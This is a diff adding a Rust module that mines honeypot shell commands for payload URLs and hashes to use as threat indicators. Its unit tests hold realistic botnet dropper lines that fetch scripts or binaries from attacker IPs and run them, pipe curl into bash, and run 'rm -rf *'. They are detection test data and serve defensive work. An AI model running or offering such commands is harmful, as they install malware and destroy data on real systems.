@@ -0,0 +1,155 @@
+//! Honeypot session analytics
+//!
+//! Honeypot events are folded into sessions so the credentials and commands
+//! attackers use can be ranked over time. Download commands are mined for the
+//! payload URLs and hashes they fetch, which become indicators of their own.
+
+use regex::Regex;
+use std::sync::LazyLock;
+
+use crate::models::ioc_utils::canonicalize_url;
+
+/// URLs with a scheme anywhere in a command
+static COMMAND_URL_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?i)\b(?:https?|ftp|tftp)://[^\s'"`;|&<>()]+"#).unwrap());
+
+/// One download command: the tool and its arguments up to the next separator
+static DOWNLOAD_CMD_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\b(?:wget|curl|tftp|ftpget)\b[^;|&\n]*").unwrap());
+
+/// Schemeless `host[:port]/path` argument, as in `wget 1.2.3.4/bins.sh`
+static BARE_URL_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)^(?:\d{1,3}(?:\.\d{1,3}){3}|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,})(?::\d{1,5})?/\S*$").unwrap()
+});
+
+static COMMAND_HASH_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(?:[a-fA-F0-9]{64}|[a-fA-F0-9]{40}|[a-fA-F0-9]{32})\b").unwrap());
+
+/// Payload URLs and hashes found in a shell command
+#[derive(Debug, Default, PartialEq)]
+pub struct CommandArtifacts {
+    pub urls: Vec<String>,
+    pub hashes: Vec<String>,
+}
+
+/// `tftp -g -r <file> <host>` as a URL
+fn tftp_url(args: &[&str]) -> Option<String> {
+    let file = args.iter().position(|a| *a == "-r").and_then(|i| args.get(i + 1))?;
+    let host = args
+        .iter()
+        .enumerate()
+        .rfind(|(i, a)| !a.starts_with('-') && (*i == 0 || args[i - 1] != "-r" && args[i - 1] != "-l"))
+        .map(|(_, a)| a)?;
+    Some(format!("tftp://{}/{}", host, file.trim_start_matches('/')))
+}
+
+/// Extract the payload URLs and hashes from the download commands
+/// (wget, curl, tftp, ftpget) in a shell command line. Hashes count anywhere
+/// in a command that downloads something, as droppers often verify their
+/// payload (`echo <md5> | md5sum -c`).
+pub fn command_artifacts(command: &str) -> CommandArtifacts {
+    let mut artifacts = CommandArtifacts::default();
+
+    for segment in DOWNLOAD_CMD_RE.find_iter(command).map(|m| m.as_str()) {
+        let args: Vec<&str> = segment
+            .split_whitespace()
+            .map(|arg| arg.trim_matches(['\'', '"']))
+            .collect();
+
+        let mut urls: Vec<String> = COMMAND_URL_RE.find_iter(segment).map(|m| m.as_str().to_string()).collect();
+        urls.extend(
+            args.iter()
+                .skip(1)
+                .filter(|arg| !arg.starts_with('-') && !arg.contains("://") && BARE_URL_RE.is_match(arg))
+                .map(|arg| format!("http://{}", arg)),
+        );
+        if args[0].eq_ignore_ascii_case("tftp") {
+            urls.extend(tftp_url(&args[1..]));
+        }
+
+        for url in urls.into_iter().filter_map(|u| canonicalize_url(&u)) {
+            if !artifacts.urls.contains(&url) {
+                artifacts.urls.push(url);
+            }
+        }
+    }
+
+    if artifacts.urls.is_empty() {
+        return artifacts;
+    }
+
+    let without_urls = COMMAND_URL_RE.replace_all(command, " ");
+    for hash in COMMAND_HASH_RE.find_iter(&without_urls).map(|m| m.as_str().to_lowercase()) {
+        if !artifacts.hashes.contains(&hash) {
+            artifacts.hashes.push(hash);
+        }
+    }
+
+    artifacts
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn extracts_wget_and_curl_droppers() {
+        let artifacts = command_artifacts(
+            "cd /tmp || cd /var/run || cd /mnt; wget http://45.133.1.20/bins.sh; chmod 777 bins.sh; sh bins.sh; \
+             curl -O http://45.133.1.20/bins.sh; rm -rf *",
+        );
+        assert_eq!(artifacts.urls, vec!["http://45.133.1.20/bins.sh"]);
+        assert!(artifacts.hashes.is_empty());
+
+        let artifacts = command_artifacts(
+            "curl -s -L 'https://raw.badhost.ru/x/k.sh?utm_source=x' | bash -s; wget -q -O- 45.133.1.20:8080/a/arm7 > .d",
+        );
+        assert_eq!(
+            artifacts.urls,
+            vec!["https://raw.badhost.ru/x/k.sh", "http://45.133.1.20:8080/a/arm7"]
+        );
+    }
+
+    #[test]
+    fn extracts_busybox_and_tftp_variants() {
+        let artifacts = command_artifacts(
+            "/bin/busybox wget http://185.220.101.45:80/mips -O- > .s; /bin/busybox tftp -g -r mipsel 185.220.101.45; \
+             /bin/busybox ftpget -v -u anonymous -p anonymous -P 21 185.220.101.45 ftp://185.220.101.45/sh4",
+        );
+        assert_eq!(
+            artifacts.urls,
+            vec![
+                "http://185.220.101.45/mips",
+                "tftp://185.220.101.45/mipsel",
+                "ftp://185.220.101.45/sh4",
+            ]
+        );
+    }
+
+    #[test]
+    fn tftp_arguments_become_a_url() {
+        assert_eq!(
+            tftp_url(&["-g", "-r", "/bins/x86", "-l", "x86", "45.133.1.20"]).as_deref(),
+            Some("tftp://45.133.1.20/bins/x86")
+        );
+        assert_eq!(
+            tftp_url(&["45.133.1.20", "-g", "-r", "arm"]).as_deref(),
+            Some("tftp://45.133.1.20/arm")
+        );
+        assert_eq!(tftp_url(&["-g", "45.133.1.20"]), None);
+    }
+
+    #[test]
+    fn hashes_count_only_in_download_commands() {
+        let artifacts = command_artifacts(
+            "wget http://45.133.1.20/x -O /tmp/x && echo 'D41D8CD98F00B204E9800998ECF8427E  /tmp/x' | md5sum -c && /tmp/x",
+        );
+        assert_eq!(artifacts.urls, vec!["http://45.133.1.20/x"]);
+        assert_eq!(artifacts.hashes, vec!["d41d8cd98f00b204e9800998ecf8427e"]);
+
+        assert_eq!(
+            command_artifacts("echo d41d8cd98f00b204e9800998ecf8427e > /tmp/.id; uname -a"),
+            CommandArtifacts::default()
+        );
+    }
+}